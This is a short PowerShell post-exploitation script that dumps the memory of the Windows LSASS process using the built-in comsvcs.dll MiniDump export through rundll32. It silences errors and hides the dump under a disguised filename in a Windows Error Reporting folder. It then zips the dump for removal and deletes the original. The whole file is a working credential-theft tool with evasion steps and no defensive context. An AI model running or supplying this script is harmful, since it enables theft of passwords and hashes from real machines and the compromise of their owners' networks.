# post-ex: grab lsass memory with the LOLBin, no tools on disk
$ErrorActionPreference = 'SilentlyContinue'
$out = "$env:ProgramData\Microsoft\Windows\WER\ReportArchive\wer_$(Get-Random).tmp"

$lsass = Get-Process -Name lsass
$procId = $lsass.Id

# need SeDebugPrivilege, so run from an elevated prompt
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $procId $out full

Start-Sleep -Seconds 3
if (Test-Path $out) {
    $size = (Get-Item $out).Length / 1MB
    "[+] dump written: {0} ({1:N1} MB)" -f $out, $size
    Compress-Archive -Path $out -DestinationPath "$out.zip"
    Remove-Item $out
}
else {
    "[-] dump failed"
}
